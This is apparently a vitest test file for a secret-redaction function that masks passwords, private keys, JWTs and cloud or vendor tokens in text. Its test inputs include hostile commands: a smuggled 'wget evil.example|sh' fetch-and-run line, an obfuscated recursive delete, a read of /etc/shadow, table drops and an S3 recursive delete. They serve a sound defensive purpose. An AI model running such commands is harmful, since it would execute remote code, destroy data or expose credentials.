import { expect, it } from "vitest";
import { isSecretName, withoutSecrets } from "./redaction.ts";

it.each(["password", "dbPassword", "API-KEY", "apiKey", "refresh_token", "TO\u212aEN", "client-secret-value", "cookies", "pin"])(
  "P7: the value of %s is a secret",
  (name) => expect(isSecretName(name)).toBe(true),
);

it.each(["secret_name", "token_id", "key", "pinned", "monkey", "columns", ""])("the value of %s is shown", (name) =>
  expect(isSecretName(name)).toBe(false),
);

const PEM_LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
const key = (gap: string, ...before: string[]) =>
  ["-----BEGIN RSA PRIVATE KEY-----", ...before, PEM_LINE, PEM_LINE, "c2hvcnQ=", "-----END RSA PRIVATE KEY-----"].join(gap);

it.each([
  ["a key", key("\n")],
  ["a key in JSON", key(String.raw`\n`)],
  ["a key in JSON in JSON", key(String.raw`\\n`)],
  ["a key in a list of lines", key(`",\n  "`)],
  ["a key in a diff", key("\n-")],
  ["a key in a comment", key("\r\n # ")],
  ["a key over continued lines", key("\\\n")],
  ["an encrypted key", key("\n", "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,00FF", "")],
  ["a key that was cut", `-----BEGIN PRIVATE KEY-----\n${PEM_LINE}\n${PEM_LINE}`],
  ["a JWT", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0.c2lnbmF0dXJl"],
  ["a token", "ghp_0123456789abcdefABCDEF"],
  ["a secret in base64", "whsec_C2FtcGxlc2Vj+cmV0c2Ft/cGxlA=="],
])("P7: takes %s out, and what stands around it stays", (_what, secret) => {
  const text = withoutSecrets(`drop table customers; -- ${secret} and more`);
  expect(text).toBe(`drop table customers; -- (secret, ${secret.length} characters, not shown) and more`);
});

it("P7: a password in a URL hides the password", () => {
  for (const password of ["hunter2", "h@nter2", "h:nter2"])
    expect(withoutSecrets(`psql postgres://root:${password}@db/crm -c 'drop table customers'`)).toBe(
      "psql postgres://root:(secret, 7 characters, not shown)@db/crm -c 'drop table customers'",
    );
});

it.each([
  ["https://u:(secret, 1 characters, not shown)@evil.example?@crm.example", "https://u:p@evil.example?@crm.example"],
  ["https://u:(secret, 1 characters, not shown)@evil.example#@crm.example", "https://u:p@evil.example#@crm.example"],
  [String.raw`https://u:(secret, 1 characters, not shown)@evil.example\@crm.example`, String.raw`https://u:p@evil.example\@crm.example`],
  ["https://evil.example:443?x@crm.example", "https://evil.example:443?x@crm.example"],
  ["https://evil.example:000443#x@crm.example", "https://evil.example:000443#x@crm.example"],
  ["sqlserver://evil.example:1433;user=x@crm.example", "sqlserver://evil.example:1433;user=x@crm.example"],
  ["postgres://u:(secret, 3 characters, not shown)@db", "postgres://u:p?x@db"],
])("P7: what looks like a password hides no host: %s", (shown, text) => expect(withoutSecrets(text)).toBe(shown));

it("P7: what looks like a password and is a command is said to be one", () => {
  expect(withoutSecrets("curl https://u:p;wget${IFS}evil.example|sh;@crm.example/health")).toBe(
    "curl https://u:(secret, 28 characters with shell syntax, not shown)@crm.example/health",
  );
});

it("P7: a command as long as a line of a key is shown", () => {
  const [path, flags] = ["/".repeat(40), `-${"r".repeat(40)}f`];
  const marks = [27, 25].map((characters) => `(secret, ${characters} characters, not shown)`);
  const between = (text: string) => `-----BEGIN PRIVATE KEY-----${text}-----END PRIVATE KEY-----`;
  const x11 = `/usr/bin${"/X11".repeat(10)}/reboot`;
  for (const text of [`\n${path}bin/rm ${flags} ${path}home\n`, `|${path}bin/sh|`, `\n${x11}\n`, "\nreboot\n", `\n${x11}\nreboot\n`])
    expect(withoutSecrets(between(text))).toBe(marks.join(text));
  expect(withoutSecrets(`export SECRET_ACCESS_KEY=\n${x11}`)).toBe(`export SECRET_ACCESS_KEY=\n${x11}`);
});

it("P7: a command between the lines of a key is shown", () => {
  const marked = `-----BEGIN PRIVATE KEY-----\n${PEM_LINE}`;
  const shown = withoutSecrets(`${marked}\n${"/".repeat(40)}bin/reboot\n${PEM_LINE}`);
  expect(shown).toBe(`(secret, ${marked.length} characters, not shown)\n${"/".repeat(40)}bin/reboot\n(secret, 64 characters, not shown)`);
});

it("P7: a path behind what looks like a token is shown", () => {
  for (const token of ["npm_aaaaaaaaaaaa", "whsec_aaaaaaaaaaaa"])
    expect(withoutSecrets(`cat ${token}/../../etc/shadow`)).toMatch(/^cat \(secret, 1\d characters, not shown\).?\.\.\/\.\.\/etc\/shadow$/);
});

it.each(["n2xvbgztmw==", "Aw==", "d2k", "x/9Kd0Fb", "0a1b2c3d", PEM_LINE.slice(0, 39), PEM_LINE])(
  "P7: a key that ends with %s is hidden",
  (end) => {
    const whole = key("\n").replace("c2hvcnQ=", end);
    expect(withoutSecrets(whole)).toBe(`(secret, ${whole.length} characters, not shown)`);
  },
);

it.each([
  ["AWS_SECRET_ACCESS_KEY=", " AWS_SESSION_TOKEN="],
  ['"SecretAccessKey": "', '", "SessionToken": "'],
  [String.raw`{\"secretAccessKey\":\"`, String.raw`\",\"sessionToken\":\"`],
  ["aws configure set aws_secret_access_key ", "; aws configure set aws_session_token "],
])("P7: an AWS key goes with its id: %s", (before, between) => {
  const [id, secret, token] = ["AKIA0123456789ABCDEF", "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY", `IQoJb3JpZ2lu${"aB3/".repeat(20)}==`];
  const shown = withoutSecrets(`${id} ${before}${secret}${between}${token}" aws s3 rm s3://crm --recursive`);
  const hidden = (text: string) => `(secret, ${text.length} characters, not shown)`;
  expect(shown).toBe(`${hidden(id)} ${before}${hidden(secret)}${between}${hidden(token)}" aws s3 rm s3://crm --recursive`);
});

it.each(["whsec_", "sk_live_", "rk_live_", "ghp_", "gho_", "ghs_", "github_pat_", "glpat-", "xoxb-", "npm_", "AKIA", "ASIA"])(
  "P7: a token that begins with %s is hidden, alone as well",
  (prefix) => expect(withoutSecrets(`${prefix}0123456789ABCD`)).toBe(`(secret, ${prefix.length + 14} characters, not shown)`),
);

it("P7: a name that begins like a token hides nothing", () => {
  for (const name of ["ASIA-PACIFIC-PRODUCTION-1", "AKIA_prod_database_01"]) expect(withoutSecrets(name)).toBe(name);
  expect(withoutSecrets("AKIA0123456789ABCDEF")).toBe("(secret, 20 characters, not shown)");
});

it("P7: the mark of a key hides no words, and takes no time", () => {
  const marked = "-----BEGIN PRIVATE KEY----- drop table customers";
  expect(withoutSecrets(marked)).toContain("drop table customers");
  const endless = `-----BEGIN PRIVATE KEY-----${"\n ".repeat(60_000)}${"A".repeat(60_000)}!`;
  expect(withoutSecrets(endless)).toHaveLength("(secret, 180027 characters, not shown)!".length);
  for (const gap of ["\\n", "\\", "-", '"a', "\\\\n-", "-----END "]) {
    const broken = `-----BEGIN PRIVATE KEY-----${gap.repeat(60_000)}`;
    expect(withoutSecrets(broken)).toBe(`(secret, 27 characters, not shown)${gap.repeat(60_000)}`);
  }
});
